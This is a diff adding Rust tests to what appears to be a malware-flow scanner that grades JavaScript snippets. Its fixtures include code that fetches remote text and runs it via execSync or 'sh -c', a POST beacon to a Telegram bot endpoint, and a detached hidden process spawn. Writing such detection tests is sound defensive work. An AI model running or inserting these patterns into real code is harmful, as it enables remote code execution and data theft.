@@ -616,3 +616,37 @@ fn who_is_told_by_this_machine_only() {
     assert_eq!(weighs("'ws://localhost:12300'"), Some(Severity::Medium));
     assert!(weighs("'wss://h.invalid/x'") >= Some(Severity::High) && weighs("process.env.X") >= Some(Severity::High));
 }
+
+#[test]
+fn pages_are_opened_whatever_their_query_says_and_mailboxes_of_others_are_no_collectors() {
+    use crate::model::Severity;
+    let code = |opens: &str| {
+        format!(
+            "import {{execSync}} from 'child_process'; const r = await fetch('https://h.invalid/v'); const t = await r.text();\nexecSync(`{opens}`)"
+        )
+    };
+    let weighs = |opens: &str| weight(Language::JavaScript, &code(opens), "flow-download-run");
+    assert_eq!(weighs("open \"https://h.invalid/new?title=Bug Report&body=# A ${t}\""), Some(Severity::Medium));
+    assert!(weighs("open \"https://h.invalid/\" && \"${t}\"") >= Some(Severity::High));
+    assert!(weighs("sh -c \"${t}\"") >= Some(Severity::High));
+    let beacon = |address: &str| {
+        rules(Language::JavaScript, &format!("fetch({address}, {{method: 'POST', body: 'x'}})"))
+            .contains(&"flow-beacon")
+    };
+    assert!(!beacon("`https://api.telegram.org/bot${process.env.T}/sendMessage`"));
+    assert!(beacon("'https://api.telegram.org/bot1:A/sendMessage'"));
+}
+
+#[test]
+fn who_goes_on_behind_the_terminal_was_told_to() {
+    use crate::model::Stage;
+    let triggered = |code: &str| {
+        let outcome = outcome(Language::JavaScript, code);
+        let flows = flows::judge(&outcome, false);
+        let found = flows.iter().find(|f| f.rule.id == "flow-starts-unseen").unwrap();
+        found.finding(crate::model::Evidence::note("")).stages.has(Stage::Trigger)
+    };
+    let spawn =
+        "require('child_process').spawn(process.execPath, [__dirname + '/d.js'], {detached: true, stdio: 'ignore'})";
+    assert!(triggered(spawn) && !triggered(&format!("if (process.argv[2] === 'start') {spawn}")));
+}
